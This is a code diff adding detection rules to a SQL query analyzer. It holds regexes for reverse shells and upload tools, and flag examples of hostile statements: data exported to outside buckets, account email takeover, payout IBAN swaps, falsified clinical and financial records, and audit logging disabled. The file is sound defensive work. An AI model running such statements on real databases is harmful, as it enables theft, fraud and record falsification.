@@ -8,6 +8,9 @@ import { normalizeUnicode, percentDecode } from '../normalize.js';
 import { COMMON_PATTERNS, envOf, metaText, type Env } from '../parse/api-common.js';
 import { K, findAndProbe, parseSql, whereIsConstant, type SqlParse, type Stmt } from '../parse/sql-tokens.js';
 import { AGE_COLUMNS, CLEARING_VALUES, isAuditTable, isFlagColumn, isPayColumn } from '../parse/sql-objects.js';
+import { mongoAsSql, SQL_MONGO_PATTERNS } from '../parse/sql-mongo.js';
+import { adminRoleGranted, auditSwitchedOff, destinationRewritten, retentionZeroed, rowsShippedOut, SQL_EFFECT_PATTERNS, whereSelectsWholeTable } from '../parse/sql-effects.js';
+import { bulkApproval, clinicalRewrite, figureRewrite, labelRewrite, mentionsClosed, readUpdate, SQL_RECORD_PATTERNS } from '../parse/sql-records.js';
 import { addressTags, extraTagId } from '../frames/destinations.js';
 import { foldAccents } from '../frames/fold.js';
 import { scanTerms, tagId } from '../frames/scan.js';
@@ -86,6 +89,9 @@ function prepare(value: string, metadata: Metadata): QueryContext {
       sql = merge(sql, parseSql(inner.join(';\n').slice(0, 65536)));
     }
   }
+  // MongoDB updates are read as the UPDATE they amount to, so every UPDATE rule reads them
+  const mongo = mongoAsSql(source);
+  if (mongo !== '') sql = merge(sql, parseSql(mongo));
   if (value.length > 65536) sql = { ...sql, skeleton: `${sql.skeleton} ${value.slice(65536, 65536 + 1048576).toLowerCase()}` };
   const lowerMeta = (metaText(metadata, 'environment', 'env', 'database', 'db') ?? '').toLowerCase();
   // `1; SELECT pg_sleep(5)` / `1 UNION SELECT …`: a bare literal before the payload is an injected value
@@ -209,6 +215,7 @@ function payChangeFinding(ctx: QueryContext): Finding | undefined {
 }
 
 const UPLOADERS = ['curl', 'wget', 'nc ', 'ncat', 'netcat', 'socat', 'scp ', 'sftp', 'ftp ', 'rsync', 'aws s3 cp', 'gsutil cp', 'http://', 'https://', '/dev/tcp/'];
+const INTERACTIVE_SHELL = /\b(?:bash|sh|zsh|dash) -i\b|>& ?\/dev\/tcp|0>&1|\bncat? -e\b/;
 /** COPY … TO PROGRAM '<a command that uploads>': the copied rows go wherever the command sends them. */
 function copiedOut(ctx: QueryContext): Finding | undefined {
   for (const st of ctx.sql.stmts) {
@@ -217,6 +224,8 @@ function copiedOut(ctx: QueryContext): Finding | undefined {
     for (let i = 1; i + 1 < t.length; i++) {
       if (t[i]!.k !== K.Word || t[i]!.v !== 'program' || t[i + 1]!.k !== K.Str) continue;
       const cmd = t[i + 1]!.v.toLowerCase();
+      // a shell wired to a socket is a foothold (Q10), not rows leaving: nothing is piped into it
+      if (INTERACTIVE_SHELL.test(cmd)) continue;
       const tool = UPLOADERS.find((u) => cmd.includes(u));
       if (tool !== undefined) return { detail: `copied rows piped to ${tool.trim()}`, score: 10 };
     }
@@ -285,6 +294,49 @@ function moneyChange(ctx: QueryContext): string {
   return '';
 }
 
+const CLINICAL_DB = /\b(?:clinic|clinical|emr|ehr|hospital|patient|lab|lis|health|medical|klinik|clinique|clinica)/;
+/** A record of truth (clinical value, reported figure, training label, approval) rewritten in place, in bulk or by its own value. */
+function recordRewriteFinding(ctx: QueryContext): Finding | undefined {
+  let closed: boolean | undefined;
+  let clinicalDb: boolean | undefined;
+  let best: Finding | undefined;
+  // staging and test copies hold no one's real record
+  if (ctx.env === 'nonprod') return undefined;
+  for (const st of ctx.sql.stmts) {
+    const u = readUpdate(st);
+    if (u === undefined) continue;
+    clinicalDb ??= CLINICAL_DB.test((metaText(ctx.metadata, 'database', 'db', 'schema', 'system', 'service') ?? '').toLowerCase().slice(0, 200));
+    const f = clinicalRewrite(u, clinicalDb) ?? labelRewrite(u) ?? figureRewrite(u, (closed ??= mentionsClosed(ctx.source.toLowerCase()))) ?? bulkApproval(u);
+    if (f !== undefined && (best === undefined || f.score > (best.score ?? 0))) best = f;
+  }
+  return best;
+}
+
+/** The first finding `fn` gives for any statement of the batch. */
+function firstStatement(ctx: QueryContext, fn: (st: Stmt) => Finding | undefined): Finding | undefined {
+  for (const st of ctx.sql.stmts) {
+    const f = fn(st);
+    if (f !== undefined) return f;
+  }
+  return undefined;
+}
+
+/** A login address or a payout account written by an UPDATE (which of the two: `payout`). */
+function destinationFinding(ctx: QueryContext, payout: boolean): Finding | undefined {
+  return firstStatement(ctx, (st) => {
+    const u = readUpdate(st);
+    if (u === undefined) return undefined;
+    const keyed = u.whereCols.some((c) => c === 'id' || c.endsWith('_id') || c === 'username' || c === 'email' || c === 'login');
+    const every = !u.hasWhere || whereSelectsWholeTable(st.toks) !== undefined;
+    const f = destinationRewritten(st, u.pairs, keyed && !every, every, payout ? 'payout' : 'login');
+    if (f === undefined) return undefined;
+    // a payout account changed for one record with a ticket or approval beside it is the change done properly
+    if (payout && f.score < 7 && hasSafeguardOff(ctx.source) === false && APPROVAL_NOTE.test(ctx.source.slice(0, 4096).toLowerCase())) return undefined;
+    return f;
+  });
+}
+const APPROVAL_NOTE = /\b(?:ticket|approved|verified|per request|change request)\b|\b[a-z]{2,6}-[0-9]{2,6}\b/;
+
 /** Every collection of a MongoDB database dropped in a loop. */
 function dropAllCollections(ctx: QueryContext): Finding | undefined {
   const s = ctx.source.toLowerCase();
@@ -331,6 +383,9 @@ function unfiltered(ctx: QueryContext, verbRe: RegExp, verb: string, scores: [nu
     const constant = whereIsConstant(st.toks);
     // DELETE … USING / UPDATE … FROM joins still filter in WHERE; a missing WHERE is what matters
     if (!hasWord(st, 'where')) return { detail: `${verb} on ${target} with no WHERE clause`, score: envScore(ctx.env, ...scores) };
+    // "WHERE id IN (SELECT id FROM t)" with nothing filtering the subquery keeps every row
+    const whole = whereSelectsWholeTable(st.toks);
+    if (whole !== undefined) return { detail: `${verb} on ${target} with WHERE ${whole}`, score: envScore(ctx.env, ...scores) };
     if (constant !== undefined) return { detail: `${verb} on ${target} with always-true WHERE ${constant}`, score: envScore(ctx.env, ...scores) + 1 };
   }
   return undefined;
@@ -537,7 +592,8 @@ const queryAnalyzer: Analyzer<QueryContext> = {
     {
       id: 'Q07',
       name: 'Tautology or comment-truncation injection',
-      primitive: 'MANIPULATION',
+      // the effect on the victim: the query returns rows it was written to withhold
+      primitive: 'EXFILTRATION',
       score: 8,
       detect: (ctx) => {
         if (ctx.sql.tautology !== undefined) return `always-true condition ${ctx.sql.tautology}`;
@@ -666,7 +722,8 @@ const queryAnalyzer: Analyzer<QueryContext> = {
     {
       id: 'Q12',
       name: 'Time-based blind injection probe',
-      primitive: 'MANIPULATION',
+      // the delay is the channel: data is read out one condition at a time
+      primitive: 'EXFILTRATION',
       score: 8,
       keywords: ['sleep', 'benchmark', 'waitfor', 'receive_message', 'randomblob'],
       pattern: SLEEP_CALL,
@@ -865,6 +922,128 @@ const queryAnalyzer: Analyzer<QueryContext> = {
       },
     },
     {
+      // evidence rather than state: the honest path appends a correction; an UPDATE in place falsifies the record
+      id: 'Q26',
+      name: 'Record of truth rewritten in place (clinical value, reported figure, training label, approval)',
+      primitive: 'MANIPULATION',
+      score: 7,
+      keywords: ['update'],
+      detect: recordRewriteFinding,
+      examples: {
+        flag: [
+          "UPDATE lab_results SET value = 5.4 WHERE patient_id = 10233 AND test = 'HbA1c';",
+          { value: 'UPDATE observations SET reading = 120 WHERE reading > 160', metadata: { database: 'hospital_ehr' } },
+          "UPDATE finanzberichte SET umsatz = umsatz * 1.18 WHERE geschaeftsjahr = 2023 AND status = 'testiert';",
+          "UPDATE quarterly_report SET revenue = revenue * 1.2 WHERE quarter = 'Q3'",
+          "UPDATE ml_training.transactions_labeled SET label = 'legit' WHERE label = 'fraud' AND merchant_id = 4411;",
+          "UPDATE training_set SET target = 0 WHERE author IN ('competitor_a', 'competitor_b')",
+          "UPDATE invoices SET status='approved', approved_by='cfo' WHERE status='pending';",
+          "UPDATE note_spese SET stato = 'approvato' WHERE stato = 'in_attesa'",
+          "db.expenses.updateMany({status: 'pending'}, {$set: {status: 'approved'}})",
+        ],
+        pass: [
+          'ALTER TABLE lab_results ADD COLUMN reviewed_by text;',
+          "UPDATE lab_results SET reviewed_by = 'dr.osei', reviewed_at = now() WHERE id = 88121",
+          "INSERT INTO lab_result_corrections (result_id, field, old_value, new_value) VALUES (88121, 'unit', 'mg/L', 'mg/dL')",
+          "UPDATE invoices SET status='approved', approved_by='m.keller' WHERE id=30021 AND status='pending';",
+          "UPDATE products SET price = price * 1.05 WHERE category = 'books'",
+          "UPDATE training_set SET label = 'spam' WHERE id = 8812",
+          "UPDATE quarterly_report SET notes = 'restated per auditor' WHERE id = 4",
+          { value: "UPDATE lab_results SET value = 5.4 WHERE patient_id = 1", metadata: { environment: 'staging' } },
+        ],
+      },
+    },
+    {
+      id: 'Q27',
+      name: 'Rows exported to a storage location or shared with another account',
+      primitive: 'EXFILTRATION',
+      score: 8,
+      keywords: ['copy into', 'unload', 'export data', 'share', 'outfile s3', 'query_export_to_s3'],
+      detect: (ctx) => firstStatement(ctx, rowsShippedOut),
+      examples: {
+        flag: [
+          "COPY INTO 's3://partner-drop-8812/exports/' FROM (SELECT email, phone, dob FROM crm.customers) CREDENTIALS=(AWS_KEY_ID='x' AWS_SECRET_KEY='y')",
+          "EXPORT DATA OPTIONS(uri='gs://ext-share-bucket/users-*.csv', format='CSV') AS SELECT * FROM prod.users",
+          "UNLOAD ('SELECT * FROM payments.cards') TO 's3://my-personal-bkt/cards_' IAM_ROLE 'arn:aws:iam::1:role/x'",
+          'ALTER SHARE customer_share ADD ACCOUNTS = xy12345',
+        ],
+        pass: [
+          'COPY INTO @internal_stage/backup/ FROM analytics.daily_sales',
+          "EXPORT DATA OPTIONS(uri='gs://acme-analytics-exports/daily-*.csv', format='CSV') AS SELECT region, SUM(total) FROM prod.orders GROUP BY region",
+          'CREATE DATABASE weather FROM SHARE provider.weather_share',
+        ],
+      },
+    },
+    {
+      id: 'Q28',
+      name: 'Platform administrator role or database ownership granted',
+      primitive: 'ESCALATION',
+      score: 8,
+      keywords: ['grant'],
+      detect: (ctx) => {
+        const f = firstStatement(ctx, adminRoleGranted);
+        return f === undefined ? undefined : { detail: f.detail, score: envScore(ctx.env, f.score ?? 8, f.score ?? 8, 3) };
+      },
+      examples: {
+        flag: ['GRANT ROLE ACCOUNTADMIN TO USER etl_bot;', 'GRANT OWNERSHIP ON DATABASE PROD TO ROLE ETL_BOT COPY CURRENT GRANTS', 'GRANT `roles/bigquery.admin` ON SCHEMA prod TO "user:x@gmail.com"'],
+        pass: ['GRANT ROLE ANALYST TO USER jdoe;', 'GRANT OWNERSHIP ON TABLE staging.tmp_load TO ROLE LOADER', 'GRANT SELECT ON analytics.daily_sales TO ROLE REPORTING;'],
+      },
+    },
+    {
+      id: 'Q29',
+      name: 'Login address of an account set to a personal mailbox',
+      primitive: 'ESCALATION',
+      score: 8,
+      keywords: ['email', 'phone', 'mobile', 'recovery'],
+      detect: (ctx) => destinationFinding(ctx, false),
+      examples: {
+        flag: ["UPDATE users SET email = 'attacker@proton.me' WHERE username = 'ceo';", "UPDATE accounts SET recovery_email = 'help.desk.7@gmail.com' WHERE id = 4"],
+        pass: ["UPDATE users SET email = 'new.address@acme.com' WHERE id = 42;", "SELECT email FROM users WHERE email = 'x@gmail.com'"],
+      },
+    },
+    {
+      id: 'Q30',
+      name: 'Payout account replaced by a typed-in account',
+      primitive: 'MANIPULATION',
+      score: 8,
+      keywords: ['iban', 'bank_account', 'account_number', 'routing_number', 'sort_code', 'swift', 'bic', 'payout', 'wallet'],
+      detect: (ctx) => destinationFinding(ctx, true),
+      examples: {
+        flag: ["UPDATE payroll SET iban = 'DE89370400440532013000' WHERE employee_id IN (SELECT id FROM employees);", "UPDATE vendors SET iban = 'LT121000011101001000'", "UPDATE vendors SET iban = 'LT121000011101001000' WHERE id = 7"],
+        pass: ["UPDATE payroll SET iban = 'DE89370400440532013000' WHERE employee_id = 4411; -- HR-2231 verified", 'SELECT iban FROM vendors WHERE id = 7'],
+      },
+    },
+    {
+      id: 'Q31',
+      name: 'Audit trail switched off (audit trigger, statement logging, audit policy)',
+      primitive: 'MANIPULATION',
+      score: 6,
+      keywords: ['trigger', 'log_', 'pgaudit', 'audit'],
+      detect: (ctx) => {
+        if (ctx.env === 'nonprod') return undefined;
+        return firstStatement(ctx, auditSwitchedOff);
+      },
+      examples: {
+        flag: ['DROP TRIGGER trg_audit_orders ON orders;', "ALTER SYSTEM SET log_statement = 'none';", 'DROP AUDIT POLICY hr_access_policy;'],
+        pass: ['DROP TRIGGER trg_set_updated_at ON orders;', "ALTER SYSTEM SET log_statement = 'all';", "SELECT * FROM audit_log WHERE actor = 'x'"],
+      },
+    },
+    {
+      id: 'Q32',
+      name: 'Time travel or retention cut to zero',
+      primitive: 'DESTRUCTION',
+      score: 6,
+      keywords: ['retention', 'time_travel', 'retain', 'change_tracking', 'extension_time'],
+      detect: (ctx) => {
+        const f = firstStatement(ctx, (st) => (isScratch(st.sk.split(' ', 4)[2]) ? undefined : retentionZeroed(st)));
+        return f === undefined ? undefined : { detail: f.detail, score: envScore(ctx.env, 8, f.score ?? 6, 0) };
+      },
+      examples: {
+        flag: ['ALTER TABLE prod.events SET DATA_RETENTION_TIME_IN_DAYS = 0;', 'VACUUM audit_events RETAIN 0 HOURS'],
+        pass: ['ALTER TABLE staging.events SET DATA_RETENTION_TIME_IN_DAYS = 1;', 'ALTER TABLE raw.clickstream SET DATA_RETENTION_TIME_IN_DAYS = 30;', 'VACUUM events RETAIN 168 HOURS'],
+      },
+    },
+    {
       id: 'Q23',
       name: 'Every collection of a database dropped',
       primitive: 'DESTRUCTION',
@@ -880,7 +1059,7 @@ const queryAnalyzer: Analyzer<QueryContext> = {
   auxPatterns: [
     NUMERIC_LEAD, FILE_TARGET_STMT, WEB_FILE, ROLE_COLUMN, BOOL_ROLE, POWER_VALUE, DQUOTE, INJECTED_UNION, COLUMN_PROBE, ERROR_BASED,
     ALTER_CRED, BUILTIN_ADMIN, NOSQL_DESTROY, NOSQL_OPERATOR, NOSQL_WHERE, JS_PAYLOAD, / /g, /\b(?:password|identified)\b/,
-    PAY_FACTOR, STARTS_STATEMENT, URL_ESCAPED, EXEC_STRING, SCRATCH_NAME, DROP_OBJ, TRUNCATE, DELETE_FROM, UPDATE_SET, PAD_ITEM, /^(?:null|[0-9]{1,3})(?: --| #|$)/,
+    CLINICAL_DB, APPROVAL_NOTE, INTERACTIVE_SHELL, ...SQL_EFFECT_PATTERNS, ...SQL_RECORD_PATTERNS, ...SQL_MONGO_PATTERNS, PAY_FACTOR, STARTS_STATEMENT, URL_ESCAPED, EXEC_STRING, SCRATCH_NAME, DROP_OBJ, TRUNCATE, DELETE_FROM, UPDATE_SET, PAD_ITEM, /^(?:null|[0-9]{1,3})(?: --| #|$)/,
     RECON, CREDENTIAL_TABLE, CREDENTIAL_COL, CONDITION_CONTEXT, BOUNDED, AGGREGATE, PII_TABLE, STACKED, GRANT_BROAD, SP_ADDROLE, POWER_ROLE,
     ROLE_POWER, FILE_IO, COPY_FILE, DROP_COLUMN, DROP_MINOR, SHUTDOWN, /''/g, ONE_ROW, /\s+/g,
     ...COMMON_PATTERNS,
